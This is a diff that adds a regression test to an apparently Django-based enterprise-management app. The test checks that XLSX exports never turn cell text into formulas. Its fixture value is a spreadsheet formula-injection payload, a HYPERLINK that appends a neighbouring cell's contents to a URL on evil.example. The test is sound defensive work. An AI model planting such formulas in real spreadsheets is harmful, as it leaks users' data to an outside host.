@@ -220,3 +220,18 @@ def test_change_list_and_history_queries_do_not_grow_with_records(editor, client
         enterprise.save()
     EnterpriseFactory.create_batch(10)
     assert [_queries_for(client, url) for url in urls] == few
+
+
+def test_exported_text_never_becomes_a_formula_or_link(editor, make_user, client_for):
+    import zipfile
+
+    from openpark.enterprises.models import Contact
+
+    payload = '=HYPERLINK("http://evil.example/?d="&A2,"查看")'
+    Contact.objects.create(enterprise=EnterpriseFactory(), name=payload, title="=1+1")
+    for url in (reverse("enterprises:contact_list") + "?export=xlsx", reverse("core:changerecord_list") + "?export=xlsx"):
+        content = client_for(make_user("leader")).get(url).content
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert not any("<f>" in sheet for sheet in sheets), url
+        assert any(payload in row for row in map(str, read_xlsx(content))), url
